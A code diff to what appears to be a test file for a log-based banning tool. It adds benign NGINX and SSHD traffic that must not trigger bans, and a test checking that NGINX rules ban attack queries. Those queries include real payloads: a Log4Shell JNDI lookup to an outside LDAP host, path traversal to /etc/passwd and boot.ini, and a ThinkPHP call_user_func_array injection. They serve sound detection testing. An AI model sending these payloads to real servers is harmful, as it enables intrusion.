@@ -161,9 +161,9 @@ const HABITS: Readonly<Record<string, Readonly<Record<string, Habit>>>> = {
         ),
     },
     exploit: {
-      who: "reads about attacks in a forum",
+      who: "stores notes about attacks",
       every: 5 * MINUTE,
-      line: (i) => get(`/search?q=base64_decode(${i}`, 200),
+      line: (i) => get(`/notes/save?text=base64_decode(${i}`, 200),
     },
     sql_injection: {
       who: "searches a manual of SQL",
@@ -363,6 +363,49 @@ const PROGRAMS: readonly Program[] = [
     lines: (i) => [get(`/pool/t/tool/tool-1.${i}.tar.gz`), get(`/tool/-/tool-1.${i}.tgz`)],
   },
   {
+    who: "who searches a wiki that shows what it finds with each letter",
+    module: "NGINX",
+    every: 1,
+    count: 20,
+    lines: (i) => {
+      const words = encodeURIComponent("/etc/passwd and chmod 777. Why?".slice(0, 11 + i));
+      return [get(`/index.php?title=Special%3ASearch&search=${words}&limit=20`, 200)];
+    },
+  },
+  {
+    who: "who turns the pages of a search",
+    module: "NGINX",
+    every: 10,
+    count: 50,
+    lines: (i) => [get(`/?s=%3C%3Fphp+phpinfo%28&page=${i}`, 200)],
+  },
+  {
+    who: "whose site is served by the plugin Jetpack",
+    module: "NGINX",
+    every: 5,
+    count: 100,
+    lines: (i) => [access(`POST /xmlrpc.php?for=jetpack&token=abc%3A1%3A1&nonce=${i} HTTP/1.1`, 200)],
+  },
+  {
+    who: "whose game has a launcher by the name of Hydra",
+    module: "NGINX",
+    every: 5,
+    count: 100,
+    lines: () => [access("GET /news HTTP/1.1", 200, { agent: "HydraLauncher/3.1" })],
+  },
+  {
+    who: "whose client offers the ticket and the machine's key of another account first",
+    module: "SSHD",
+    every: 10,
+    count: 60,
+    lines: (i) => [
+      `Failed gssapi-with-mic for nina from ${port(i)} ssh2`,
+      `Failed hostbased for nina from ${
+        port(i)
+      } ssh2: ED25519 SHA256:abc, client user "nina", client host "a.example"`,
+    ],
+  },
+  {
     who: "who asks for the site's own pages by whole addresses",
     module: "NGINX",
     every: 20,
@@ -387,6 +430,25 @@ for (const { who, module, every, count, lines } of PROGRAMS) {
     assert.deepEqual(bansOf(module, Array.from({ length: count }, (_, i) => lines(i)), every), []);
   });
 }
+
+Deno.test("the shipped rules of NGINX ban an attack in a search's words or beside them", () => {
+  for (
+    const query of [
+      "q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D",
+      "q=../../etc/passwd",
+      "search=..%5C..%5Cboot.ini",
+      "q=a&file=/etc/passwd",
+      "s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
+      "query[]=/etc/passwd",
+    ]
+  ) {
+    assert.deepEqual(
+      bansOf("NGINX", Array.from({ length: 3 }, () => get(`/?${query}`, 200)), 1),
+      ["exploit"],
+      query,
+    );
+  }
+});
 
 Deno.test("the shipped rules of NGINX ban who looks for what is not there under a name", () => {
   const instants = Array.from(
